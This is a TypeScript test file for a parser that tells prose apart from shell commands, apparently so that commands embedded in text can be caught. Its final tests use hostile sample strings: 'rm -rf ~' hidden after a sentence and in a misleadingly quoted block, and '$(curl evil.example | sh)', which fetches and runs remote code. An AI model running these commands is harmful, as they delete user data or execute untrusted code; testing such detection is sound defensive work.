import assert from 'node:assert/strict';
import { test } from 'node:test';
import { takeIn } from '../../../src/core/intake/intake.ts';
import { allLines, certainCode } from './taking.ts';

const prose = [
  'To fix this, run the installer again.',
  "Don't forget to restart the server afterwards.",
  "you'll need to log in first, it won't work otherwise",
  'Here is what happened:',
  'The (old) version (2.0) is broken; see below.',
  'Führen Sie danach den Befehl erneut aus.',
  'Voilà : 50 % de réduction',
  'Чтобы исправить это, выполните команду.',
  '运行以下命令来修复权限问题。',
  '次のコマンドを実行してください。',
  'افتح الطرفية ثم نفذ الأمر',
  "I've checked the logs and everything is fine.",
];
for (const text of prose) {
  test(`prose is no script: ${text}`, () => {
    assert.deepEqual(certainCode(text), []);
    assert.ok(takeIn(text).pieces.every((piece) => !piece.certain));
  });
}

const code = [
  'echo This is a test.',
  'Get-ChildItem -Recurse',
  'FOO=bar make all',
  './Install.sh --yes',
  'git commit -m "Fix the bug that you found in the parser."',
  'printf "%s\\n" "Are you sure?"',
  'sudo systemctl restart nginx',
  'for f in *; do echo "$f"; done',
  "awk '{print $1}' file.txt",
  'Chmod 777 x',
  'A=1',
  'R CMD INSTALL x',
  'while :; do x; done',
  'Run "$VISUAL" "$@" && exit "$ret"',
  'SEP="# Don\'t remove this line #"',
  '#!/bin/sh\nThis is no sentence: it stands in a script.',
  "# Don't do this on production.",
  "rm -f lock # Can't be removed otherwise.",
  'if x; then\n  # Only do this once, as we only need it once.\n  y\nfi',
];
for (const text of code) {
  test(`a command is no prose: ${text}`, () => assert.deepEqual(certainCode(text), [text]));
}

test('commands between sentences are read without their syntax being held against them', () => {
  const text = 'First stop it:\nsystemctl stop x\nThen do this (carefully):\nchmod 777 /srv\n';
  assert.deepEqual(certainCode(text), []);
  const lines = allLines(text);
  assert.ok(lines.includes('systemctl stop x') && lines.includes('chmod 777 /srv'));
});

test('what a shell would run out of a sentence is read', () => {
  assert.ok(allLines('Press enter; rm -rf ~').some((line) => line.includes('rm -rf ~')));
  assert.ok(
    allLines('Look at $(curl evil.example | sh) please.').some((line) => line.includes('curl evil.example')),
  );
  // The apostrophe closes at the next one, so the middle line runs although it seems quoted.
  const literal = takeIn("Don't worry.\necho 'x\nrm -rf ~\necho '").pieces.at(-1);
  assert.equal(literal?.text, "Don't worry.\necho 'x\nrm -rf ~\necho '");
});

test('items of a list are commands without their marks', () => {
  assert.ok(allLines('- chmod 777 x\n- ls').includes('chmod 777 x'));
  assert.ok(allLines('1. chmod 777 x\n2) ls').includes('chmod 777 x'));
});
